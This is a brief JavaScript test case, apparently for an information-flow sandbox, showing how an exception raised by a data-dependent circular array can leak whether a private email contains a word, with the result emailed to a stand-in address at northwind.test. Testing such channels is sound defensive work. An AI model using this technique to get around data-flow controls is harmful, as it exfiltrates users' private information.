// attack: a callback inside a try inside a loop makes an array circular by data; the catch sends a literal
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
for (const w of ['zed', 'qqq']) {
  const a = [];
  [1].forEach(() => {
    if (m.body.includes(w)) {
      a.push(a);
    }
  });
  try {
    `${a}`;
  } catch (e) {
    await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: w });
  }
}
